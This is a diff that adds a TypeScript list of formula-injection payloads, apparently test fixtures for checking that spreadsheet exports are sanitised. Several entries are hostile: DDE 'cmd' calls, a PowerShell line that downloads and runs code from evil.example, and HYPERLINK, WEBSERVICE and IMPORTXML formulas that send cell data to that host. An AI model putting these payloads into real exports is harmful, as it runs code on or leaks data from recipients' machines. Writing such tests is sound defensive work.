@@ -1,0 +1,48 @@
+/** Forty cells by which somebody would run something in the spreadsheet of whoever opens an export. */
+export const payloads: readonly string[] = [
+  // A sign at the very start.
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  `=HYPERLINK("https://evil.example/?"&A1,"Voir la facture")`,
+  `=cmd|' /C calc'!A0`,
+  `+cmd|' /C calc'!A0`,
+  `-cmd|' /C calc'!A0`,
+  `@cmd|' /C calc'!A0`,
+  `=DDE("cmd";"/C calc";"x")`,
+  `=WEBSERVICE("https://evil.example/"&B2)`,
+  `=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")`,
+  `=IMAGE("https://evil.example/x.png")`,
+  "=2+5+cmd|' /C powershell IEX(wget evil.example/x)'!A0",
+  "-2+3+cmd|' /C calc'!D2",
+  '=SOMME(A1:A9)',
+  '==1+1',
+  '+-+1',
+  '-SUM(A1)',
+  '@@A1',
+  // A control character at the start.
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\tcalc',
+  '\rcalc',
+  '\ncalc',
+  // Behind what a spreadsheet trims.
+  ' =1+1',
+  '   +1+1',
+  '\u00a0=1+1',
+  '\u3000-1+1',
+  '\u200b=1+1',
+  '\ufeff@SUM(1)',
+  // Full-width twins.
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  // Inside quotes, and behind an apostrophe that somebody wrote himself.
+  '"=1+1"',
+  `" =1+1`,
+  `'=1+1`,
+  '=1+1";=1+1;"',
+];
